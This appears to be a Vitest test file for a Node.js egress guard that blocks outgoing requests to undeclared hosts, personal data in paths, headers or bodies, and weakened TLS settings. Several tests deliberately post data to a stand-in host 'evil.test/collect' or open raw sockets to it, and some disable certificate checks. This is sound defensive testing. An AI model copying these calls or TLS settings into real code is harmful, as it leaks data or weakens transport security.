import http from 'node:http';
import https from 'node:https';
import { Duplex } from 'node:stream';
import net, { Socket } from 'node:net';
import tls from 'node:tls';
import { Agent, fetch as undiciFetch, request as undiciRequest } from 'undici';
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import { denialIn } from '../denial.ts';
import { feed, testGuard } from '../testing/bundles.ts';
import { startPostbote, type Postbote } from '../testing/postbote.ts';
import { denialOf, scoped } from '../testing/scoped.ts';
import { egressDispatcher } from './dispatcher.ts';
import { Egress } from './egress.ts';
import { installEgress } from './install.ts';

let postbote: Postbote;
beforeAll(async () => {
  postbote = await startPostbote();
});
afterAll(() => postbote.stop());

let uninstall: (() => void) | undefined;
afterEach(() => {
  uninstall?.();
  uninstall = undefined;
  postbote.forget();
});

/** Written so, because the scan of this repository reads tests as well. */
const older = ['TLSv1', '2'];

test.each([
  ['minVersion', older.join('.'), 'transit/weak-tls-version'],
  ['maxVersion', older.join('.'), 'transit/weak-tls-version'],
  ['secureProtocol', `${older.join('_')}_method`, 'transit/weak-tls-version'],
  ['rejectUnauthorized', false, 'transit/cert-validation-disabled'],
])('%s that weakens TLS opens no socket', async (option, value, rule) => {
  const { guard } = await testGuard({ feed });
  uninstall = installEgress(guard);
  const connect = () =>
    tls.connect({ host: 'api.postbote.test', port: 443, ...Object.fromEntries([[option, value]]) });

  expect(denialOf(connect)).toMatchObject({ rule, clause: 'security.transit' });
  guard.stop();
});

test('a socket that is open already, as through a proxy, may lead to nobody undeclared either', async () => {
  const { guard } = await testGuard({ feed });
  uninstall = installEgress(guard);
  const connect = () => tls.connect({ socket: new Socket(), servername: 'evil.test' });

  expect(denialOf(connect)?.rule).toBe('sharing/undeclared-recipient');
  guard.stop();
});

describe('a dispatcher by itself sends nothing', () => {
  const undeclared = 'sharing/undeclared-category';
  test.each([
    ['to a host nobody declared', 'https://evil.test/', {}, 'sharing/undeclared-recipient'],
    ['with a value in the path', 'https://api.postbote.test/Ada%20Marsh', {}, undeclared],
    [
      'with a value in a header',
      'https://api.postbote.test/',
      { headers: { 'x-name': 'Ada Marsh' } },
      undeclared,
    ],
    [
      'with a value in the body',
      'https://api.postbote.test/',
      { method: 'POST' as const, body: 'name=Ada Marsh' },
      undeclared,
    ],
  ])('%s', async (_, url, options, rule) => {
    const { guard } = await testGuard({ feed });
    const dispatcher = egressDispatcher(new Egress(guard));

    const sending = scoped(
      'run-shop',
      () => undiciRequest(url, { ...options, dispatcher }).catch((error: unknown) => error),
      [['Ada Marsh', 'account.name']],
    );

    expect(denialIn(await sending)?.rule).toBe(rule);
    await dispatcher.close();
    guard.stop();
  });
});

test('where nobody names an oldest version, the declared one is offered', async () => {
  const { guard } = await testGuard({ feed });

  expect(new Egress(guard).checkTls({ host: 'api.postbote.test', checksCertificate: true })).toBe(
    'TLSv1.3',
  );
  guard.stop();
});

describe('once installed, nothing undeclared leaves through', () => {
  const away = 'https://evil.test/collect';
  const clients: readonly (readonly [string, () => Promise<unknown>])[] = [
    ['fetch', () => fetch(away, { method: 'POST', body: 'x' })],
    ['fetch with a dispatcher of its own', () => undiciFetch(away, { dispatcher: new Agent() })],
    ['undici.request', () => undiciRequest(away)],
    ['https.request', () => nodeRequest(https, away)],
    ['https with an agent of its own', () => nodeRequest(https, away, new https.Agent())],
    ['http.request', () => nodeRequest(http, 'http://evil.test/')],
    ['a bare TLS socket', async () => tls.connect({ host: 'evil.test', port: 443 })],
  ];
  test.each(clients)('%s', async (_, send) => {
    const { guard } = await testGuard({ feed });
    uninstall = installEgress(guard);

    const denial = denialIn(await send().catch((error: unknown) => error));

    expect(denial?.rule).toBe('sharing/undeclared-recipient');
    guard.stop();
  });
});

describe('once installed, no undeclared value leaves for a declared host', () => {
  const there = 'https://api.postbote.test/send';
  const post = { method: 'POST' } as const;
  const attempts: readonly (readonly [string, () => Promise<unknown>])[] = [
    ['in a path, by fetch', () => fetch(`${there}/Ada%20Marsh`)],
    ['in a header, by fetch', () => fetch(there, { headers: { 'x-name': 'Ada Marsh' } })],
    ['in a body, by undici', () => undiciRequest(there, { ...post, body: 'Ada Marsh' })],
    [
      'in bytes, by undici',
      () => undiciRequest(there, { ...post, body: Buffer.from('Ada Marsh') }),
    ],
    ['in a path, by https', () => nodeRequest(https, `${there}/Ada%20Marsh`)],
    ['in a body, by https', () => nodeRequest(https, there, undefined, 'Ada Marsh')],
  ];
  test.each(attempts)('%s', async (_, send) => {
    const { guard } = await testGuard({ feed });
    uninstall = installEgress(guard);

    const failed = await scoped('run-shop', () => send().catch((error: unknown) => error), [
      ['Ada Marsh', 'account.name'],
    ]);

    expect(denialIn(failed)?.rule).toBe('sharing/undeclared-category');
    guard.stop();
  });

  test('a header that speaks of a picture makes no file of a message', async () => {
    const { guard } = await testGuard({ feed });
    uninstall = installEgress(guard);
    const headers = { 'x-kind': 'image/png', 'content-type': 'text/plain' };
    const body = 'card 4111 1111 1111 1111';

    const failed = await scoped('run-shop', () =>
      undiciRequest(there, { ...post, headers, body }).catch((error: unknown) => error),
    );

    expect(denialIn(failed)?.rule).toBe('sharing/undeclared-category');
    guard.stop();
  });
});

test('a connection that names no oldest version of TLS offers the declared one alone', async () => {
  const { guard } = await testGuard({ feed });
  uninstall = installEgress(guard);
  const { promise, resolve } = Promise.withResolvers<string>();
  const wire = new Duplex({
    read: () => undefined,
    write: (chunk: Buffer, _encoding, done) => {
      resolve(chunk.toString('hex'));
      done();
    },
  });

  const socket = tls.connect({ socket: wire, servername: 'api.postbote.test' });
  socket.on('error', () => undefined);

  // RFC 8446 section 4.2.1: the extension `supported_versions`, one version, 0x0304.
  expect(await promise).toContain('002b0003020304');
  socket.destroy();
  guard.stop();
});

test.each([
  ['a port and a name', () => net.connect(443, 'evil.test')],
  ['options', () => net.connect({ port: 443, host: 'evil.test' })],
  ['a socket of its own', () => new Socket().connect(443, 'evil.test')],
])('a plain socket is not opened to nobody declared, by %s', async (_, connect) => {
  const { guard } = await testGuard({ feed });
  uninstall = installEgress(guard);

  expect(denialOf(connect)?.rule).toBe('sharing/undeclared-recipient');
  guard.stop();
});

test('what is taken away again lets everything pass', async () => {
  const { guard } = await testGuard({ feed });
  const { connect } = tls;

  installEgress(guard)();

  expect(tls.connect).toBe(connect);
  guard.stop();
});

describe("the company's own machine is reached", () => {
  const body = 'Ada Marsh, ada@example.test';
  test.each([
    ['fetch', (url: string) => fetch(url, { method: 'POST', body })],
    ['undici.request', (url: string) => undiciRequest(url, { method: 'POST', body })],
    ['http.request', (url: string) => nodeRequest(http, url, undefined, body)],
  ])('with %s', async (_, send) => {
    const { guard } = await testGuard({ feed });
    uninstall = installEgress(guard);

    await send(`http://127.0.0.1:${postbote.port}/hook`);

    expect(postbote.bodies).toEqual([body]);
    expect(postbote.wire()).toContain('POST /hook');
    guard.stop();
  });
});

function nodeRequest(
  client: typeof http | typeof https,
  url: string,
  agent?: https.Agent,
  body = 'x',
): Promise<unknown> {
  return new Promise((resolve, reject) => {
    const request = client.request(url, { method: 'POST', ...(agent && { agent }) }, (response) => {
      response.resume().on('end', resolve);
    });
    request.on('error', reject);
    request.end(body);
  });
}
